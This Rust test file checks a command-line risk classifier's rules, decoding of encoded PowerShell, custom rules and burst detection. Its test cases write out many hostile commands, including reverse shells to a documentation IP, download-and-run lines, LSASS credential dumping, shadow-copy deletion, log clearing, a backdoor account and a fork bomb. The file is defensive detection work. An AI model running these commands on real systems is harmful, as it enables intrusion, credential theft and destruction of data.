//! What command lines are taken for.

use base64::{Engine as _, engine::general_purpose::STANDARD};
use chrono::DateTime;
use model::Rows;
use proptest::prelude::*;
use serde_json::json;

use super::*;

fn judged(rules: &Rules, command_line: &str) -> Vec<String> {
    let risk = rules.judge(command_line, &mut Decoder::new(Options::default()));
    risk.rules.iter().map(|rule| rules.all()[*rule].name.clone()).collect()
}

fn built_in() -> Rules {
    Rules::with(&[], true).unwrap()
}

#[test]
fn what_msticpy_finds_risky_is_found() {
    let rules = built_in();
    for (command_line, name) in [
        ("echo key >> /root/.ssh/authorized_keys", "authorized_keys"),
        ("wget http://a.example/x | sh", "download_to_shell"),
        ("curl -s http://a.example/x.sh -o /tmp/x.sh", "download_script"),
        (":(){:|:&};:", "fork_bomb"),
        (":(){ :|: & };:", "fork_bomb"),
        ("mv /var/log/auth.log /dev/null", "moved_to_null"),
        ("/bin/bash", "shell"),
        ("sudo /bin/bash -i", "shell"),
    ] {
        assert!(
            judged(&rules, command_line).contains(&name.to_owned()),
            "{command_line}: {:?}",
            judged(&rules, command_line)
        );
    }
}

#[test]
fn what_attackers_type_is_found() {
    let rules = built_in();
    for (command_line, name) in [
        ("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "reverse_shell"),
        ("nc -e /bin/sh 198.51.100.7 4444", "reverse_shell"),
        ("bash <(curl -s http://a.example/i)", "download_to_shell"),
        ("chmod 4755 /tmp/x", "setuid"),
        ("rm -rf /", "disk_wiped"),
        ("systemctl stop auditd", "defences_off"),
        ("./xmrig -o stratum+tcp://pool.example:3333", "miner"),
        ("certutil.exe -urlcache -split -f http://a.example/p.exe", "certutil"),
        ("regsvr32 /s /n /u /i:http://a.example/f.sct scrobj.dll", "proxied_execution"),
        ("vssadmin delete shadows /all /quiet", "shadow_copies_deleted"),
        ("rundll32 C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\lsass.dmp full", "credentials_dumped"),
        ("wevtutil cl Security", "logs_cleared"),
        ("net user backdoor P@ss /add", "account_added"),
        ("powershell -nop -w hidden -ep bypass -c iex", "hidden_powershell"),
    ] {
        assert!(
            judged(&rules, command_line).contains(&name.to_owned()),
            "{command_line}: {:?}",
            judged(&rules, command_line)
        );
    }
}

#[test]
fn what_everybody_types_is_not() {
    let rules = built_in();
    for command_line in [
        "",
        "ls -la /home",
        "/usr/bin/apt-get upgrade -y",
        "wget http://a.example/sharpening.png",
        "curl https://a.example/fresh",
        "crontab -l",
        "C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s Schedule",
        "chmod 644 a.txt",
        "rm -rf /tmp/build",
    ] {
        assert_eq!(judged(&rules, command_line), Vec::<String>::new(), "{command_line}");
    }
}

#[test]
fn what_is_encoded_counts() {
    // MSTICPy decodes it and forgets it.
    let rules = built_in();
    let inner: Vec<u8> = "IEX (New-Object Net.WebClient).DownloadString('http://a.example/p')"
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    let command_line = format!("powershell.exe -enc {}", STANDARD.encode(inner));
    let found = judged(&rules, &command_line);
    for name in ["encoded_powershell", "powershell_download", "invoke_expression"] {
        assert!(found.contains(&name.to_owned()), "{found:?}");
    }
    let risk = rules.judge(&command_line, &mut Decoder::new(Options::default()));
    assert_eq!(risk.score, 70);
    assert!(risk.decoded.unwrap().starts_with("powershell.exe -enc IEX (New-Object"));
}

#[test]
fn own_rules_come_beside_or_instead() {
    let own = [("backup".to_owned(), "backup".to_owned(), 10)];
    let rules = Rules::with(&own, false).unwrap();
    assert_eq!(judged(&rules, "/bin/bash backup"), ["backup"]);
    assert_eq!(judged(&Rules::with(&own, true).unwrap(), "/bin/bash backup"), ["shell", "backup"]);
    for pattern in ["(", "(a{1000}){1000}", "(?=x)"] {
        let own = [own[0].clone(), ("bad".to_owned(), pattern.to_owned(), 10)];
        assert_eq!(Rules::with(&own, true).unwrap_err(), RuleError::Pattern(1), "{pattern}");
    }
}

#[test]
fn every_row_of_a_table_is_judged() {
    let rows = json!([{ "Command": "/bin/bash", "risky": "own" }, { "Command": null }, { "Command": "ls" }]);
    let table = serde_json::from_value::<Rows>(rows).unwrap().into_table(None).unwrap();
    let commands = table.column("Command").unwrap().clone();
    let Judged { table: judged, risky, hit } = built_in().judge_table(table, &commands, Options::default()).unwrap();
    let rows = serde_json::to_value(&judged).unwrap()["rows"].clone();
    assert_eq!((risky, hit.len()), (vec![0], 1));
    assert_eq!(
        rows[0],
        json!({ "Command": "/bin/bash", "source_risky": "own", "risky": true, "risk_score": 30, "risks": ["shell"], "decoded": null })
    );
    assert_eq!(
        (&rows[1]["risky"], &rows[2]["risky"], &rows[2]["risk_score"]),
        (&json!(null), &json!(false), &json!(0))
    );
}

fn at(second: i64) -> DateTime<chrono::Utc> {
    DateTime::from_timestamp(1_700_000_000 + second, 0).unwrap()
}

#[test]
fn bursts_are_found_on_each_host_by_itself() {
    let commands =
        [(0, "a", 0), (1, "a", 1), (2, "a", 2), (3, "a", 3), (4, "b", 1), (5, "a", 60), (6, "a", 61), (7, "a", 62)];
    let commands = commands.map(|(row, host, second)| (row, Some(host), at(second)));
    let found = bursts(commands, 3, chrono::TimeDelta::seconds(2));
    let rows: Vec<_> = found.iter().map(|burst| burst.rows.as_slice()).collect();
    assert_eq!(rows, [&[0, 1, 2, 3][..], &[5, 6, 7]]);
    assert_eq!((found[0].start, found[0].end, found[0].host.as_deref()), (at(0), at(3), Some("a")));
}

proptest! {
    #[test]
    fn a_burst_is_as_dense_as_asked(seconds in prop::collection::vec(0_i64..200, 0..40), events in 1_usize..6) {
        let commands = seconds.iter().enumerate().map(|(row, second)| (row, None, at(*second)));
        let found = bursts(commands, events, chrono::TimeDelta::seconds(5));
        let total: usize = found.iter().map(|burst| burst.rows.len()).sum();
        prop_assert!(total <= seconds.len());
        for burst in &found {
            prop_assert!(burst.rows.len() >= events);
        }
        // Everybody with enough neighbours is in one.
        for (row, second) in seconds.iter().enumerate() {
            let after = seconds.iter().filter(|other| (*second..=second + 5).contains(other)).count();
            if after >= events {
                prop_assert!(found.iter().any(|burst| burst.rows.contains(&row)));
            }
        }
    }
}
